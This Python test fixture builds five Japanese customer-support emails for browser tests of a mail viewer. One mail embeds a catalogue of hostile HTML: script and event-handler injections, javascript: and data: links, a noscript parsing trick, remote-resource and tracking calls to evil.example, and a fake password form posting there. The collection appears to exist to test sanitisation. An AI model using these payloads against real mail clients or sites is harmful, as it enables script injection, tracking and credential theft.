"""The mails that the browser tests begin with; all of one customer."""
import base64
import email.utils

CUSTOMER = "hanako@customer.example"
PASSWORD = "ことば と ことば の あいだ"
PNG = base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082")).decode()

HOSTILE = """
<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/r">
<link rel="stylesheet" href="https://evil.example/s.css"><style>@import "https://evil.example/i.css";
body{background:url(https://evil.example/b.png)} @font-face{font-family:x;src:url(https://evil.example/f.woff)}
* {position:fixed;z-index:99999}</style></head><body background="https://evil.example/bg.png" onload="parent.hit=1">
<p id="hello">攻撃のあるメールです</p>
<script>parent.hit = 2; fetch("https://evil.example/x")</script>
<img src=x onerror="parent.hit=3"><img src="https://evil.example/track.gif?u=1" srcset="https://evil.example/2x.gif 2x">
<svg onload="parent.hit=4"><script>parent.hit=5</script><image href="https://evil.example/svg.png"/><a xlink:href="javascript:parent.hit=6">x</a></svg>
<math><mi xlink:href="javascript:parent.hit=7">m</mi></math>
<form action="https://evil.example/form" method="post"><input name="password" type="password"><button>送信</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o.swf"></object>
<embed src="https://evil.example/e"><video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>
<a href="javascript:parent.hit=8">押してください</a><a href="data:text/html,<script>top.hit=9</script>">data</a>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:url('https://evil.example/c.png')">上に重なる</div>
<p style="background-image:image-set('https://evil.example/is.png' 1x);--x:url(https://evil.example/v.png)">s</p>
<noscript><p title="</noscript><img src=x onerror=parent.hit=10>"></noscript>
<table width="99999"><tr>%s</tr></table>
</body></html>""" % ("<td>大きな表</td>" * 2000)


def mail(number, subject, text, html=None, files=False):
    """One mail, plain or with its layout and a picture."""
    head = ("From: =?utf-8?b?%s?= <%s>\r\nTo: support@example.jp\r\nSubject: =?utf-8?b?%s?=\r\n"
            "Message-ID: <ui%d@customer.example>\r\nDate: %s\r\nMIME-Version: 1.0\r\n" % (
                base64.b64encode("山田 花子".encode()).decode(), CUSTOMER,
                base64.b64encode(subject.encode()).decode(), number, email.utils.formatdate(localtime=True)))
    kind = "html" if html else "plain"
    body = base64.encodebytes((html or text).encode()).decode().replace("\n", "\r\n")
    part = ("Content-Type: text/%s; charset=UTF-8\r\nContent-Transfer-Encoding: base64\r\n\r\n%s" % (kind, body))
    if not files:
        return (head + part).encode()
    return ("%sContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n%s\r\n--b\r\n"
            "Content-Type: image/png; name=photo.png\r\nContent-Disposition: attachment; filename=photo.png\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--b--\r\n" % (head, part, PNG)).encode()


def mails():
    yield mail(1, "マグカップの返品について", "お世話になっております。山田花子と申します。\n\n先日購入したマグカップ（注文番号 M-20417）に"
               "ひびが入っておりました。\n返品または交換をお願いできますでしょうか。\n\nよろしくお願いいたします。")
    yield mail(2, "とても急いでいます", "攻撃", html=HOSTILE, files=True)
    yield mail(3, "ログインできません", "パスワードを入れてもログインできません。\n> 前のメール\n> の引用です\n\nどうすればよいでしょうか。")
    yield mail(4, "領収書の発行について", "領収書を発行していただけますでしょうか。注文番号は M-20500 です。")
    yield mail(5, "写真を送ります", "届いた商品の写真です。ご確認ください。", files=True)
